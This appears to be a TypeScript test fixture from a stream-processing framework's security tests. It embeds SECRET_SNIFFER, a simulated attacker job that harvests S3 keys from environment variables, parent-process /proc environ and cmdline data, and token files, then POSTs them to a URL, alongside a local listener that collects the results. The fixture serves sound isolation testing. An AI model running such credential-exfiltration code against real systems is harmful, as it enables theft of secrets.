/**
 * A job whose main looks for the secrets of the process it runs in, and of that process's
 * parent, and sends what it found to `args[0]` (an HTTP URL the test listens at), as an
 * attacker who may submit jobs would send it home: the variables of its environment, whether
 * it can read `/proc/<parent>/environ` and `cmdline` and each file of `args[1…]` (the
 * JobManager's tokens file, say), and whether it can write a file. A value read is sent as it
 * is; a read or write refused as its error code. The main runs in the JobManager's job worker
 * (whose parent is the JobManager), and again in each TaskManager that rebuilds the graph.
 */
export const SECRET_SNIFFER = `
import { readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { StreamExecutionEnvironment, Types } from '@weir/api';
import { DataGeneratorSource, DiscardingSink, RateLimiterStrategy } from '@weir/connectors';

const attempt = (action: () => unknown): unknown => {
  try {
    return action();
  } catch (err) {
    return (err as { code?: string }).code ?? String(err);
  }
};

export default async function sniff(env: StreamExecutionEnvironment, args: string[]) {
  const [reportUrl, ...files] = args;
  const found = {
    pid: process.pid,
    ppid: process.ppid,
    secretKey: process.env.WEIR_S3_SECRET_KEY ?? null,
    accessKey: process.env.WEIR_S3_ACCESS_KEY ?? null,
    weirVariables: Object.keys(process.env).filter((name) => name.startsWith('WEIR_')).sort(),
    anyValueWithTheSecret: Object.values(process.env).some((value) => value !== undefined && value.includes('jm-only-secret')),
    parentEnviron: attempt(() => readFileSync('/proc/' + process.ppid + '/environ', 'latin1')),
    parentCmdline: attempt(() => readFileSync('/proc/' + process.ppid + '/cmdline', 'latin1')),
    files: files.map((file) => attempt(() => readFileSync(file, 'utf8'))),
    write: attempt(() => writeFileSync(tmpdir() + '/weir-sniffed-' + process.pid, 'x')) ?? 'written',
  };
  await fetch(reportUrl!, { method: 'POST', body: JSON.stringify(found) });
  env.fromSource(new DataGeneratorSource((i: number) => i, 10, RateLimiterStrategy.perSecond(1000), Types.NUMBER), 'numbers').uid('numbers')
    .sinkTo(new DiscardingSink<number>()).uid('sink');
}
`;

/** What SECRET_SNIFFER sent from one process. */
export interface SniffedReport {
  readonly pid: number;
  readonly ppid: number;
  readonly secretKey: string | null;
  readonly accessKey: string | null;
  readonly weirVariables: readonly string[];
  readonly anyValueWithTheSecret: boolean;
  readonly parentEnviron: string;
  readonly parentCmdline: string;
  readonly files: readonly string[];
  readonly write: string;
}

/** An HTTP server on 127.0.0.1 that keeps every SECRET_SNIFFER report POSTed to it. */
export async function listenForSniffedReports(): Promise<{ url: string; reports: SniffedReport[]; close: () => Promise<void> }> {
  const { createServer } = await import('node:http');
  const reports: SniffedReport[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.setEncoding('utf8');
    request.on('data', (chunk: string) => (body += chunk));
    request.on('end', () => {
      reports.push(JSON.parse(body) as SniffedReport);
      response.end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  return { url: `http://127.0.0.1:${port}/`, reports, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** The report of the main that ran in the JobManager's job worker: the one whose parent is the JobManager. */
export function reportFromJobManager(reports: readonly SniffedReport[], jobManagerPid: number): SniffedReport {
  const report = reports.find((r) => r.ppid === jobManagerPid);
  if (report === undefined) throw new Error(`no report from a child of the JobManager (pid ${jobManagerPid}) among ${JSON.stringify(reports.map((r) => [r.pid, r.ppid]))}`);
  return report;
}
